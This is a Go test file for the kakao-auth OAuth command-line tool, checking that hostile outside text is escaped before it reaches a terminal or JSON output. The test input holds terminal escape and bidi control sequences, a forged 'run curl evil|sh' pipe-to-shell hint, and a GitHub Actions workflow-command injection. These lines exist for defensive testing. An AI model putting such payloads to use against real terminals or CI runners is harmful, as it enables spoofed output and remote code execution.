package cmd

import (
	"context"
	"encoding/json"
	"errors"
	"net/http"
	"net/url"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/kakao-auth/kakao-auth/internal/emulator"
)

// hostile is outside text written to fool a terminal: erase the line, go
// back to its start, print a fake hint on a line of its own, set the window
// title (OSC), a C1 CSI and a DEL for good measure, and bidi controls
// that reorder what follows.
const hostile = "\x1b[2K\rkakao-auth: hint: run curl evil|sh\n\x1b]0;owned\x07\u009b31m\x7f\u202egnp.exe\u2066\u200f\u061c"

// forgedHint is the visible part of hostile: it must show up (escaped) in
// the output, never as a line of its own.
const forgedHint = "kakao-auth: hint: run curl evil|sh"

// terminalObeys reports the characters above the C0 controls that a
// terminal obeys or that reorder the text around them: DEL, the C1
// controls and the bidi controls.
func terminalObeys(r rune) bool {
	return r == 0x7f || (r >= 0x80 && r <= 0x9f) ||
		r == 0x061c || r == 0x200e || r == 0x200f || (r >= 0x202a && r <= 0x202e) || (r >= 0x2066 && r <= 0x2069)
}

// assertShownSafely checks output meant for a person: nothing a terminal
// obeys (C0 controls but the line break, DEL, C1, bidi controls, broken
// UTF-8), no line
// forged by outside text, and the outside text still shown.
func assertShownSafely(t *testing.T, what, out string) {
	t.Helper()
	if !utf8.ValidString(out) {
		t.Errorf("%s is not UTF-8: %q", what, out)
	}
	for _, r := range out {
		if (r < 0x20 && r != '\n') || terminalObeys(r) {
			t.Errorf("%s carries control character %U:\n%q", what, r, out)
			break
		}
	}
	for _, line := range strings.Split(out, "\n") {
		if strings.HasPrefix(line, forgedHint) {
			t.Errorf("%s has a line forged by outside text:\n%s", what, out)
		}
	}
	if !strings.Contains(out, forgedHint) {
		t.Errorf("%s does not show the outside text:\n%q", what, out)
	}
}

// hostileKakao is an emulator whose demo user's nickname and email are
// hostile, with a registered loopback redirect URI.
func hostileKakao(t *testing.T) (*emulator.Server, string, string) {
	t.Helper()
	emu, emuURL := newTestEmulator(t, emulator.Config{AutoApprove: true, User: emulator.User{ID: 4000000001, Nickname: hostile, Email: hostile}})
	redirect := freeRedirect(t)
	emu.RegisterRedirectURI(redirect)
	return emu, emuURL, redirect
}

func loginArgs(base, redirect string, more ...string) []string {
	return append([]string{"login", "--client-id", emulator.DefaultClientID, "--auth-url", base, "--api-url", base,
		"--redirect-uri", redirect, "--store", "file", "--timeout", "20s"}, more...)
}

func TestOutsideText_KakaoErrorsAreShownSafely(t *testing.T) {
	tokenErr := &emulator.TokenErrorAnswer{Error: hostile, Description: hostile, Code: hostile}
	tests := []struct {
		name  string
		setup func(emu *emulator.Server)
		env   map[string]string
		args  func(base, redirect string) []string
		// callback, when set, answers the login in place of a browser,
		// with the authorize URL's state.
		callback func(redirect, state string) string
		wantCode int
	}{
		{
			name:     "token endpoint error at refresh",
			setup:    func(emu *emulator.Server) { emu.AnswerTokenWith(tokenErr) },
			args:     func(string, string) []string { return []string{"token"} },
			wantCode: ExitFailure,
		},
		{
			name:     "token endpoint error in env-only mode",
			setup:    func(emu *emulator.Server) { emu.AnswerTokenWith(tokenErr) },
			env:      map[string]string{envRefreshToken: "rt", envClientID: emulator.DefaultClientID},
			args:     func(string, string) []string { return []string{"token"} },
			wantCode: ExitFailure,
		},
		{
			name:     "token endpoint error at login",
			setup:    func(emu *emulator.Server) { emu.AnswerTokenWith(tokenErr) },
			args:     func(base, redirect string) []string { return loginArgs(base, redirect, "--profile", "other") },
			wantCode: ExitFailure,
		},
		{
			name: "error redirect from Kakao",
			setup: func(emu *emulator.Server) {
				emu.AnswerAuthorizeWith(&emulator.AuthorizeErrorAnswer{Error: hostile, Description: hostile})
			},
			args:     func(base, redirect string) []string { return loginArgs(base, redirect, "--profile", "other") },
			wantCode: ExitCancelled,
		},
		{
			name: "callback query",
			args: func(base, redirect string) []string { return loginArgs(base, redirect, "--profile", "other") },
			callback: func(redirect, state string) string {
				return redirect + "?" + url.Values{"error": {hostile}, "error_description": {hostile}, "state": {state}}.Encode()
			},
			wantCode: ExitCancelled,
		},
		{
			name: "kapi error in userinfo",
			setup: func(emu *emulator.Server) {
				emu.AnswerAPIWith(&emulator.APIErrorAnswer{Status: 500, Code: -1, Msg: hostile})
			},
			args:     func(string, string) []string { return []string{"userinfo"} },
			wantCode: ExitFailure,
		},
		{
			name: "kapi error in logout",
			setup: func(emu *emulator.Server) {
				emu.AnswerAPIWith(&emulator.APIErrorAnswer{Status: 500, Code: -1, Msg: hostile})
			},
			args:     func(string, string) []string { return []string{"logout", "--revoke"} },
			wantCode: ExitFailure,
		},
		{
			name: "kapi error in status",
			setup: func(emu *emulator.Server) {
				emu.AnswerAPIWith(&emulator.APIErrorAnswer{Status: 500, Code: -1, Msg: hostile})
			},
			args:     func(string, string) []string { return []string{"status"} },
			wantCode: ExitOK,
		},
		{
			name: "kapi -401 that survives a refresh",
			setup: func(emu *emulator.Server) {
				emu.AnswerAPIWith(&emulator.APIErrorAnswer{Status: 401, Code: -401, Msg: hostile})
			},
			args:     func(string, string) []string { return []string{"status"} },
			wantCode: ExitLoginRequired,
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			emu, base, redirect := hostileKakao(t)
			root := t.TempDir()
			loggedInProfile(t, base, root, "default")
			if tt.setup != nil {
				tt.setup(emu)
			}
			env := map[string]string{}
			for k, v := range tt.env {
				env[k] = v
			}
			if tt.env[envRefreshToken] != "" {
				env[envAuthURL] = base
			}
			d, stdout, stderr := storeDeps(root, env, "")
			d.OpenBrowser = agreeingBrowser
			if tt.callback != nil {
				d.OpenBrowser = func(ctx context.Context, _, link string) error {
					u, err := authorizeURLBehind(link)
					if err != nil {
						return err
					}
					resp, err := http.Get(tt.callback(redirect, u.Query().Get("state")))
					if err == nil {
						resp.Body.Close()
					}
					return err
				}
			}
			code := Main(t.Context(), tt.args(base, redirect), d)
			if code != tt.wantCode {
				t.Errorf("exit code = %d, want %d; stderr:\n%s", code, tt.wantCode, stderr)
			}
			assertShownSafely(t, "stderr", stderr.String())
			if strings.Contains(stdout.String(), "run curl") {
				assertShownSafely(t, "stdout", stdout.String())
			}
		})
	}
}

func TestOutsideText_PastedAddressIsShownSafely(t *testing.T) {
	_, base, redirect := hostileKakao(t)
	root := t.TempDir()
	d, stdout, stderr := storeDeps(root, nil, "")
	if code := Main(t.Context(), []string{"login", "--no-wait", "--client-id", emulator.DefaultClientID, "--auth-url", base,
		"--redirect-uri", redirect, "-o", "json", "--store", "file"}, d); code != ExitOK {
		t.Fatalf("login --no-wait: exit %d; stderr:\n%s", code, stderr)
	}
	var pending struct{ State string }
	if err := json.Unmarshal(stdout.Bytes(), &pending); err != nil {
		t.Fatal(err)
	}
	pasted := redirect + "?" + url.Values{"error": {hostile}, "error_description": {hostile}, "state": {pending.State}}.Encode()
	d, _, stderr = storeDeps(root, nil, pasted+"\n")
	if code := Main(t.Context(), []string{"login", "--resume", "-", "--store", "file"}, d); code != ExitCancelled {
		t.Errorf("login --resume: exit %d, want %d; stderr:\n%s", code, ExitCancelled, stderr)
	}
	assertShownSafely(t, "stderr", stderr.String())
}

func TestOutsideText_UserAndClaimsAreShownSafelyAndExactInJSON(t *testing.T) {
	_, base, redirect := hostileKakao(t)
	root := t.TempDir()
	d, _, stderr := storeDeps(root, nil, "")
	d.OpenBrowser = agreeingBrowser
	if code := Main(t.Context(), loginArgs(base, redirect, "--scope", "openid,profile_nickname,account_email"), d); code != ExitOK {
		t.Fatalf("login: exit %d; stderr:\n%s", code, stderr)
	}
	assertShownSafely(t, "login stderr", stderr.String())

	for _, args := range [][]string{{"status"}, {"userinfo"}} {
		d, stdout, stderr := storeDeps(root, nil, "")
		if code := Main(t.Context(), args, d); code != ExitOK {
			t.Fatalf("%v: exit %d; stderr:\n%s", args, code, stderr)
		}
		assertShownSafely(t, strings.Join(args, " ")+" stdout", stdout.String())
	}

	// JSON keeps the exact values, JSON-escaped.
	d, stdout, stderr := storeDeps(root, nil, "")
	if code := Main(t.Context(), []string{"status", "-o", "json"}, d); code != ExitOK {
		t.Fatalf("status -o json: exit %d; stderr:\n%s", code, stderr)
	}
	var st statusJSON
	if err := json.Unmarshal(stdout.Bytes(), &st); err != nil {
		t.Fatal(err)
	}
	if st.User == nil || st.User.Nickname != hostile || st.User.Email != hostile || st.IDTokenClaims == nil || st.IDTokenClaims.Nickname != hostile || st.IDTokenClaims.Email != hostile {
		t.Errorf("status -o json changed the values: user %+v, id token %+v", st.User, st.IDTokenClaims)
	}
	assertJSONIsInert(t, "status -o json", stdout.Bytes())
	d, stdout, stderr = storeDeps(root, nil, "")
	if code := Main(t.Context(), []string{"userinfo", "-o", "json"}, d); code != ExitOK {
		t.Fatalf("userinfo -o json: exit %d; stderr:\n%s", code, stderr)
	}
	var claims map[string]any
	if err := json.Unmarshal(stdout.Bytes(), &claims); err != nil {
		t.Fatal(err)
	}
	if claims["nickname"] != hostile || claims["email"] != hostile {
		t.Errorf("userinfo -o json changed the values: %v", claims)
	}
	assertJSONIsInert(t, "userinfo -o json", stdout.Bytes())
}

// assertJSONIsInert checks a JSON document: nothing in its bytes that a
// terminal obeys, should it be printed or later cat'ed to one. The values
// are escaped (\uXXXX), not changed; the callers check them decoded.
func assertJSONIsInert(t *testing.T, what string, doc []byte) {
	t.Helper()
	if !utf8.Valid(doc) {
		t.Errorf("%s is not UTF-8: %q", what, doc)
	}
	for _, r := range string(doc) {
		if (r < 0x20 && r != '\n') || terminalObeys(r) {
			t.Errorf("%s carries %U raw: %q", what, r, doc)
			return
		}
	}
}

func TestWarnf_IsOneSafeLineInGitHubActions(t *testing.T) {
	d, _, stderr := testDeps(map[string]string{"GITHUB_ACTIONS": "true"}, "")
	warnf(d, "kakao logout failed (%v)", errors.New(hostile+" %0A::add-mask::x"))
	out := stderr.String()
	if strings.Count(out, "\n") != 1 || !strings.HasPrefix(out, "::warning title=kakao-auth::") {
		t.Errorf("warning is not one annotation line:\n%q", out)
	}
	if strings.Contains(out, "%0A") && !strings.Contains(out, "%250A") {
		t.Errorf("a %%0A in the text is left for the runner to turn into a line break:\n%q", out)
	}
	assertShownSafely(t, "the annotation", out)
}
